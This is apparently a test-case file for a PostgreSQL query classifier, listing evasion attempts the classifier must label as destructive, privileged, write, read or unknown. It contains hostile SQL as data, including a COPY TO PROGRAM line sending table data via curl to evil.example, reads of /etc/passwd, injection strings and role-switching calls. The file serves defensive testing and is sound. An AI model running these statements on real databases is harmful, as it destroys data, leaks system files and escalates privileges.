-- Every evasion the classifier must see through. Each case here is also
-- the kind of statement an attacker reading the code would try first.

-- Data-modifying CTEs and subqueries.
-- expect-each destructive
WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d
WITH d AS (DELETE FROM orders RETURNING *) SELECT 1
WITH a AS (SELECT 1), b AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM a
WITH x AS (WITH y AS (DELETE FROM orders RETURNING 1) SELECT * FROM y) SELECT * FROM x
SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d) s
INSERT INTO archive WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
COPY (DELETE FROM orders RETURNING *) TO STDOUT
COPY (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) TO STDOUT

-- expect-each write
WITH u AS (UPDATE orders SET total = 0 WHERE id = 1 RETURNING id) SELECT * FROM u
WITH i AS (INSERT INTO orders (total) VALUES (1) RETURNING id) SELECT * FROM i
SELECT * FROM orders WHERE id IN (SELECT id FROM orders WHERE total > 1 FOR UPDATE)

-- Unbounded DELETE/UPDATE hidden behind constant-true WHEREs.
-- expect-each destructive
DELETE FROM orders
DELETE FROM orders WHERE true
DELETE FROM orders WHERE 1=1
DELETE FROM orders WHERE 'a'='a'
DELETE FROM orders WHERE id = 3 OR true
DELETE FROM orders WHERE NOT false
DELETE FROM orders WHERE 2 > 1
DELETE FROM orders WHERE EXISTS (SELECT 1)
DELETE FROM orders WHERE id = id
DELETE FROM orders WHERE (id = 1) OR (1 = 1)
DELETE FROM orders WHERE id IS NOT NULL
DELETE FROM orders WHERE NOT (id IS NULL)
DELETE FROM orders WHERE id = 1 OR customer_id = customer_id
DELETE FROM orders WHERE TRUE AND (FALSE OR TRUE)
DELETE FROM orders WHERE $1
DELETE FROM orders o USING customers c WHERE c.id = 1
DELETE FROM orders USING (SELECT 1 AS k) s WHERE k = 1
UPDATE orders SET total = 0
UPDATE orders SET total = 0 WHERE true
UPDATE orders SET total = 0 WHERE 1 = 1 OR id = 2
UPDATE orders SET total = 0 WHERE total = total
UPDATE orders o SET total = 0 FROM customers c WHERE c.tier = 'gold'
update ORDERS set TOTAL = 0
DeLeTe FrOm orders
DELETE /* where id = 1 */ FROM orders
DELETE FROM orders -- WHERE id = 1
MERGE INTO orders o USING customers c ON true WHEN MATCHED THEN UPDATE SET total = 0
MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE
TRUNCATE orders
TRUNCATE TABLE ONLY orders
DROP TABLE orders
drop table ORDERS
DROP TABLE "orders"

-- Multi-statement strings: the worst statement decides.
-- expect-each destructive
SELECT 1; DROP TABLE orders
SELECT 1;DROP TABLE orders;
INSERT INTO orders (total) VALUES (1); TRUNCATE orders
BEGIN; DELETE FROM orders; COMMIT
SELECT 'a;'; DROP TABLE orders
SELECT $$;$$; DROP TABLE orders
SELECT 1 /* ; */; DROP TABLE orders
COPY orders FROM STDIN; DROP TABLE orders

-- expect destructive
SELECT 1 -- harmless?
; DROP TABLE orders

-- expect destructive
SELECT 1 /* outer /* inner */ still comment */; DROP TABLE orders

-- Strings and quoting PostgreSQL reads differently from the naive eye.
-- expect-each destructive
SELECT 'a\'; DROP TABLE orders; --'
SELECT E'a\''; DROP TABLE orders; --'
SELECT $tag$ ' $tag$; DROP TABLE orders; SELECT ' '
SELECT U&'\0061'; DROP TABLE orders
DROP TABLE U&"\006Frders"
DROP TABLE U&"!006Frders" UESCAPE '!'
DROP TABLE "ORDERS"

-- expect-each read
SELECT 'DROP TABLE orders'
SELECT E'\'; DROP TABLE orders; --'
SELECT $$DROP TABLE orders$$
SELECT $a$ $b$ DROP TABLE orders $b$ $a$
SELECT 1 -- DROP TABLE orders
/* DROP TABLE orders; */ SELECT 1
SELECT 1 /* /* DROP TABLE orders; */ */
SELECT "DROP TABLE orders" FROM t
SELECT U&"\0069d" FROM orders
SELECT U&'\0044ROP TABLE orders'
sElEcT * FrOm OrDeRs

-- PREPARE carries the class of what it prepares.
-- expect-each destructive
PREPARE p AS DELETE FROM orders
PREPARE p (int) AS DELETE FROM orders WHERE 1 = $1

-- expect-each write
PREPARE p AS INSERT INTO orders (total) VALUES ($1)
PREPARE p AS UPDATE orders SET total = $1 WHERE id = $2

-- Dynamic SQL and code: never read.
-- expect-each destructive
DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$
DO 'BEGIN PERFORM 1; END'
DO LANGUAGE plpgsql $$ BEGIN NULL; END $$
do $$ begin null; end $$
CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'TRUNCATE orders'; END $$
CREATE OR REPLACE FUNCTION f() RETURNS int AS 'BEGIN RETURN 1; END' LANGUAGE plpgsql
CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'
CREATE FUNCTION g() RETURNS void LANGUAGE sql AS $$ TRUNCATE orders $$
CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; END $$
CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$
COPY orders TO PROGRAM 'curl -d @- https://evil.example'
COPY orders FROM PROGRAM 'cat /etc/passwd'
SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')
SELECT lo_unlink(16400)
DROP OWNED BY app_write

-- expect-each privileged
CREATE FUNCTION g() RETURNS int LANGUAGE sql AS $$ SELECT pg_terminate_backend(1)::int $$
CREATE FUNCTION sh() RETURNS void LANGUAGE plpython3u AS 'import os'
CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'SET ROLE postgres'

-- Side effects inside a SELECT.
-- expect-each privileged
SELECT pg_terminate_backend(pg_backend_pid())
SELECT * FROM orders WHERE pg_cancel_backend(1)
SELECT count(*) FROM orders, LATERAL (SELECT pg_read_file('/etc/passwd')) f
SELECT (SELECT pg_ls_dir('/') LIMIT 1)
SELECT CASE WHEN true THEN pg_reload_conf() END
SELECT id FROM orders ORDER BY pg_terminate_backend(id)
SELECT pg_catalog.pg_terminate_backend(1)
SELECT U&"pg_\0074erminate_backend"(1)
SELECT PG_TERMINATE_BACKEND(1)
SELECT pg_terminate_backend (1)
SELECT 1 UNION SELECT pg_terminate_backend(1)::int
VALUES (pg_terminate_backend(1))
SELECT set_config('role', 'app_owner', false)
SELECT set_config('ROLE', 'app_owner', false)
SELECT * FROM set_config('role', 'app_owner', false)
CREATE TABLE x AS SELECT pg_read_file('/etc/passwd')
SELECT dblink('dbname=app', 'DELETE FROM orders')

-- expect-each write
SELECT nextval('orders_id_seq')
SELECT id, nextval('s') FROM orders
SELECT pg_advisory_lock(1)
SELECT * FROM orders WHERE pg_try_advisory_lock(id)

-- Names that only look like the dangerous function.
-- expect-each unknown
SELECT "PG_TERMINATE_BACKEND"(1)
SELECT public.pg_terminate_backend(1)
SELECT pg_terminate_backend_(1)

-- EXPLAIN without ANALYZE plans only; with ANALYZE the statement runs.
-- expect-each read
EXPLAIN DELETE FROM orders

-- expect-each destructive
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN (ANALYZE) DELETE FROM orders
EXPLAIN (analyze 1) DELETE FROM orders
EXPLAIN (ANALYZE yes) DELETE FROM orders
EXPLAIN (VERBOSE, ANALYZE) DELETE FROM orders
EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d

-- Garbage and things the parser rejects: unknown, never read.
-- expect-each unknown
SELEC * FROM orders
SELECT * FROM
DELETE orders
'; DROP TABLE orders; --
)))))
SELECT 'unterminated
SELECT $$unterminated
/* unterminated comment
SELECT * FROM orders WHERE id = 1 )
WITH d AS (DELETE FROM orders) SELECT 1 FROM
SELECT 1; SELEKT 2
-- Alone, EXECUTE is unknown; the session's PREPARE memory decides.
PREPARE z AS DROP TABLE orders; EXECUTE z
EXECUTE p

-- PostgreSQL cannot PREPARE or EXPLAIN a TRUNCATE: it rejects the text.
-- expect-each unknown
PREPARE p AS TRUNCATE orders
EXPLAIN (COSTS OFF) TRUNCATE orders

-- TABLE is read by PostgreSQL's own parser where sqlparser has no shorthand; its table is recorded for scopes.
-- expect-each read
TABLE customers

-- A plain EXPLAIN still plans, and the planner folds immutable and evaluates stable calls: functions count as if run.
-- expect-each privileged
EXPLAIN SELECT pg_terminate_backend(1)
